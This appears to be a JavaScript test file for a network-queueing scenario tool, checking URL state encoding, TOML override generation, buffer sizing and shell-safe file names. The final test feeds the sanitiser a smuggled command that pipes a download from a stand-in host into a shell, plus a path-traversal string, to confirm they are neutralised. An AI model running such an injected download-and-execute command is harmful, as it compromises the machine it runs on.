// The address of the page, and the scenario that it stands for.

import assert from "node:assert/strict";
import { test } from "node:test";
import { fileName } from "../src/share.js";
import { AS_IS, FILE, FIRST, fromAddress, started, toAddress, written } from "../src/state.js";

const KNOWN = { shipped: { household: "name = 'household'" }, loads: ["photos-upload"] };
const FLOWS = [{ name: "valorant", app: "game" }, { name: "netflix", app: "dash" }];
const BASE = { rate_bps: { up: 10e6, down: 50e6 }, keys: { gateway: { modem: {}, isp: {} } }, flows: FLOWS };

/** Why addresses with a text cannot be tested here, or nothing. */
let noDeflate = false;
try {
  new CompressionStream("deflate-raw");
} catch {
  noDeflate = "this Node.js is older than 20.12 and has no deflate-raw";
}

test("an address holds all that was chosen", { skip: noDeflate }, async () => {
  const own = { ...FIRST, apps: ["valorant", "camera"], off: ["camera"], up: 0.5, players: 4, b: "queue.pie", seed: 3 };
  for (const state of [FIRST, own, { ...FIRST, start: "household", a: "cake" }, { ...FIRST, start: FILE, file: "mine.toml", text: 'name = "é"\n', plan: FIRST.plan }]) {
    assert.deepEqual(await fromAddress(await toAddress(state)), state);
  }
  assert.equal(await toAddress(own), "#own?plan=vdsl-50-10&with=valorant,camera&off=camera&up=0.5&players=4&seed=3&b=queue.pie");
});

test("an address that makes no sense becomes something that can be shown or refused", async () => {
  assert.deepEqual(await fromAddress(""), FIRST);
  assert.deepEqual(await fromAddress("#own?up=fast&rtt=-1"), FIRST);
  assert.equal((await fromAddress("#file?toml=%%%")).text, "");
});

test("sliders and gateways become keys over the text", () => {
  const state = { ...FIRST, up: 0.75, players: 4, seed: 2, off: ["netflix", "gone"], a: "queue.codel", b: "cake" };
  const { text, overrides } = written(state, "a", KNOWN, BASE);
  assert.match(text, /plan = "vdsl-50-10"/);
  assert.match(text, /\{ preset = "photos-upload", set = \{ start = "10s" \} \}/);
  assert.deepEqual(overrides, [
    ["gateway.modem", '{ queue = "codel" }'],
    ["gateway.isp", '{ queue = "codel" }'],
    ["link.up", "750kbit"],
    ["seed", "2"],
    ["flow.valorant.players", "4"],
    ["flow.netflix.enabled", "false"],
  ]);
  assert.deepEqual(written(state, "b", KNOWN, BASE).overrides[0], ["policy", "cake"]);
  assert.deepEqual(started({ ...FIRST, start: "family" }, KNOWN), { text: "", file: "family.toml", overrides: [["household", "family"]] });
  assert.equal(started({ ...FIRST, start: "household" }, KNOWN).text, "name = 'household'");
  assert.equal(started({ ...FIRST, start: "toString" }, KNOWN).text, "");
});

test("the buffer is a time at the rate of the line", () => {
  const of = (base, up) => written({ ...FIRST, buffer: 100, up, a: AS_IS }, "a", KNOWN, { ...BASE, ...base }).overrides[0];
  assert.deepEqual(of({}, 80), ["gateway.modem.limit", "1000000B"]);
  assert.deepEqual(of({ keys: {} }, null), ["gateway.up.limit", "125000B"]);
  assert.equal(of({ rate_bps: { up: 0, down: 0 } }, null), undefined);
});

test("the name of a file is safe in a shell, whoever named the scenario", () => {
  assert.equal(fileName("home", "CAKE, shaped"), "home-cake-shaped");
  assert.equal(fileName("a; curl evil.example | sh #"), "a-curl-evil.example-sh");
  assert.equal(fileName("../../$(x)\n-o"), "x-o");
  assert.equal(fileName("-"), "scenario");
});
